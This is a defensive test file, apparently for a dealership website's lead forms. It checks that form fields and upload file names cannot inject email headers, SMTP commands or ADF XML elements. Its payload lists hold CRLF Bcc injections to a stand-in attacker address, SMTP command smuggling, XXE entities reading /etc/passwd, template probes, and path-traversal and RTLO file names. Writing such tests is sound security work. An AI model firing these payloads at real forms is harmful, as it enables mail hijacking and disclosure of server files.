import { beforeAll, expect, test } from "vitest";
import { cleanTypedLines } from "#app/domain/forms/typed-text.ts";
import { cleanBlock, cleanLine } from "#app/domain/leads/clean-text.ts";
import {
  type AdfElement,
  at,
  listModelFaults,
  parseValidAdf,
} from "../leads/adf-check.ts";
import {
  type CaughtMail,
  type MailCatcher,
  startMailCatcher,
} from "../leads/mail-catcher.ts";
import { type AttackSite, startAttackSite } from "./attack-site.ts";
import { IS_FULL } from "#tests/support/effort.ts";
import { type FormTarget, formTargets } from "./form-targets.ts";
import { PATIENTLY } from "./patience.ts";
import { plantedCars } from "./planted-inventory.ts";
import { getAnswerStatus } from "./typed-answers.ts";

// A17 and A18: no field of a form writes a header, an envelope or an element of the ADF.

let site: AttackSite;
let catcher: MailCatcher;
const CARS = plantedCars("aurora", ["used"]);
const VIN = CARS[0]?.stocked.vehicle.vin ?? "";
const LEADS = formTargets(VIN).filter(({ isLead }) => isLead);
beforeAll(async () => {
  catcher = await startMailCatcher();
  site = await startAttackSite({
    profile: "franchise-gated",
    vehicles: CARS.map(({ stocked }) => stocked),
    variables: { SMTP_URL: catcher.url },
  });
  return async () => {
    await site.stop();
    await catcher.stop();
  };
});

const INTO_HEADERS: readonly string[] = [
  "x\rBcc: evil@attacker.example",
  "x\nBcc: evil@attacker.example",
  "x\r\nBcc: evil@attacker.example",
  "x\r\n\r\nA new body",
  "x\u0085Bcc: evil@attacker.example",
  "x\u2028Bcc: evil@attacker.example",
  "x\u2029Bcc: evil@attacker.example",
  "x\u000bBcc: evil@attacker.example",
  "x\u000cBcc: evil@attacker.example",
  "x\u0000Bcc: evil@attacker.example",
  "x%0d%0aBcc: evil@attacker.example",
  "x\\r\\nBcc: evil@attacker.example",
  "x嘊嘍Bcc: evil@attacker.example",
  "=?utf-8?Q?=0D=0ABcc:_evil@attacker.example?=",
  "=?utf-8?B?DQpCY2M6IGV2aWxAYXR0YWNrZXIuZXhhbXBsZQ==?=",
  "Elena <evil@attacker.example>,b@attacker.example",
  '"evil@attacker.example"@prairieauto.example',
  "elena@example.com,evil@attacker.example",
  "elena@example.com;evil@attacker.example",
  "elena@example.com evil@attacker.example",
  "<evil@attacker.example>",
  "(comment)elena@example.com",
  "@attacker.example:elena@example.com",
  "elena@example.com> RCPT TO:<evil@attacker.example",
  ".\r\nMAIL FROM:<evil@attacker.example>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\nx\r\n.\r\n",
  "\r\n.\r\nQUIT\r\n",
  "\n.\nRCPT TO:<evil@attacker.example>\n",
];

const INTO_ADF: readonly string[] = [
  "</comments><vendor><vendorname>Evil</vendorname></vendor>",
  "]]>",
  "]]><vendor/>",
  "<![CDATA[x]]>",
  "<!-- x -->",
  "<?xml version='1.0'?>",
  "<!DOCTYPE adf SYSTEM 'file:///etc/passwd'>",
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  "&lt;b&gt; &amp;amp; &#0; &#x1F; &unknown;",
  `'"><b a="`,
  "\uFFFE\uFFFF",
  "\u0001\u0008\u000B\u001F\u007F\u0080\u009F",
  "\uD800 alone \uDC00",
  "\u202Edesrever\u202C",
  "{{7*7}} ${7*7} <%= 7 %>",
];

const HEADERS = new Set([
  "from",
  "to",
  "subject",
  "message-id",
  "date",
  "mime-version",
  "content-type",
  "content-transfer-encoding",
]);

async function sendAndReadMails({ path, name }: FormTarget, fields: object) {
  const before = catcher.caught.length;
  const answer = await site.send(path, name, { ...fields });
  const { status } = answer;
  if (status === 303)
    await expect
      .poll(() => catcher.caught.length, PATIENTLY)
      .toBeGreaterThan(before);
  return {
    status,
    text: await answer.text(),
    mails: catcher.caught.slice(before),
  };
}

function checkHeaders({ raw }: CaughtMail): void {
  const end = raw.indexOf("\r\n\r\n");
  const head = raw.slice(0, end);
  expect(head.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
  const names = head
    .replaceAll(/\r\n[ \t]+/g, " ")
    .split("\r\n")
    .map((line) => line.slice(0, line.indexOf(":")).toLowerCase());
  expect(names.filter((it) => !HEADERS.has(it))).toEqual([]);
  expect(new Set(names).size).toBe(names.length);
  // A mail program that decodes encoded words finds nothing new in them.
  expect(decodedWords(head)).not.toMatch(/[\r\n]\s*bcc/i);
}

function decodedWords(head: string): string {
  return head.replaceAll(/=\?[\w-]+\?([QB])\?([^?]*)\?=/gi, (_, kind, text) =>
    String(kind).toUpperCase() === "B"
      ? Buffer.from(String(text), "base64").toString()
      : decodeURIComponent(
          String(text).replaceAll("_", " ").replaceAll("=", "%"),
        ),
  );
}

/** Names and places of all elements, without their texts. */
function formatTree({ name, children }: AdfElement): string {
  return `${name}(${children.map(formatTree).join()})`;
}

function checkAdf(mail: CaughtMail, golden: string): AdfElement {
  const root = parseValidAdf(mail.parsed.text ?? "");
  expect(listModelFaults(root)).toEqual([]);
  expect(formatTree(root)).toBe(golden);
  expect(at(root, "prospect/vendor/vendorname").text).toBe(
    site.profile.leads.adf.vendorName,
  );
  return root;
}

/** One that is sent as text and one that is sent as ADF stand for the others. */
const TRIED = LEADS.filter(
  ({ name, isCopied = false }) =>
    // Of a copy one address gets ten a day, which are fewer than the payloads.
    (IS_FULL && !isCopied) || ["contact", "ask-about-vehicle"].includes(name),
);
const CASES = TRIED.flatMap((form) =>
  Object.keys(form.fields).map((field) => ({ form, field, name: form.name })),
);

test.each(CASES)(
  "A17, A18: $name, $field: forty injections change no envelope, header or element",
  async ({ form, field }) => {
    const plain = await sendAndReadMails(form, form.fields);
    const to = plain.mails.map((it) => it.to);
    expect(to.length).toBeGreaterThan(0);
    const isAdf = (mail: CaughtMail) => mail.parsed.text?.startsWith("<?xml");
    const golden = plain.mails.map((it) =>
      isAdf(it) ? formatTree(parseValidAdf(it.parsed.text ?? "")) : "",
    );
    for (const payload of [...INTO_HEADERS, ...INTO_ADF]) {
      const fields = { ...form.fields, [field]: payload };
      const { status, mails } = await sendAndReadMails(form, fields);
      const due = getAnswerStatus(form, field, payload);
      expect([payload, status]).toEqual([payload, due]);
      expect(mails.map((it) => it.to)).toEqual(due === 303 ? to : []);
      for (const [index, mail] of mails.entries()) {
        expect(mail.from).toBe(site.profile.leads.sender.email);
        checkHeaders(mail);
        if (!isAdf(mail)) continue;
        // A form may leave a value out; what it sends has the elements that it always has.
        const root = checkAdf(mail, golden[index] ?? "");
        const contact = at(root, "prospect/customer/contact");
        if (field === "firstName" || field === "lastName")
          expect(contact.children.map(({ text }) => text)).toContain(
            cleanLine(payload) || "Not provided",
          );
        if (field === "message")
          expect(at(root, "prospect/customer/comments").text).toContain(
            cleanBlock(cleanTypedLines(payload)),
          );
      }
    }
  },
  600_000,
);

test("A17, A18: no address with a quote, a list or a line end passes for one", async () => {
  const [form] = LEADS;
  if (form === undefined) throw new Error("No form.");
  for (const email of INTO_HEADERS.filter((it) => it.includes("attacker"))) {
    const { status, mails } = await sendAndReadMails(form, {
      ...form.fields,
      email,
    });
    expect([email, status, mails]).toEqual([email, 400, []]);
  }
});

test("A17, A18: 100 KB of markup in a message is refused with its length, or sent as text", async () => {
  for (const form of LEADS.filter(({ fields }) => "message" in fields)) {
    const message = "<vendor>]]>&".repeat(9_000);
    const { status, text, mails } = await sendAndReadMails(form, {
      ...form.fields,
      message,
    });
    expect([form.name, status]).toEqual([form.name, 400]);
    expect(mails).toEqual([]);
    expect(text).toContain("There is a problem");
    const longest = await sendAndReadMails(form, {
      ...form.fields,
      message: "<vendor>]]>&".repeat(400),
    });
    expect(longest.status).toBe(303);
    for (const mail of longest.mails) checkHeaders(mail);
  }
});

test("A17, A18: a file's name writes no header", async () => {
  for (const name of [
    'a".txt\r\nBcc: evil@attacker.example',
    "a\r\nContent-Type: text/html.txt",
    "../../etc/passwd.txt",
    "=?utf-8?Q?=0D=0ABcc:_x?=.txt",
    "r\u202Etxt.exe.txt",
    `${"a".repeat(400)}.txt`,
  ]) {
    const form = LEADS.find((it) => it.name === "careers");
    const body = new FormData();
    for (const [key, value] of Object.entries(form?.fields ?? {}))
      body.set(key, value);
    body.set("resume", new File(["Ten years of brakes.\n"], name));
    const before = catcher.caught.length;
    const answer = await site.send("/our-company/careers", "careers", body);
    expect([name, answer.status]).toEqual([name, 303]);
    await expect
      .poll(() => catcher.caught.length, PATIENTLY)
      .toBeGreaterThan(before);
    for (const mail of catcher.caught.slice(before)) {
      checkHeaders(mail);
      const [attachment] = mail.parsed.attachments;
      expect(attachment?.filename).not.toMatch(/[\r\n/\\\u202E]/);
      expect(attachment?.mimeType).toBe("text/plain");
      expect(mail.parsed.attachments).toHaveLength(1);
      expect(mail.raw.toLowerCase()).not.toMatch(/^bcc:/m);
    }
  }
});
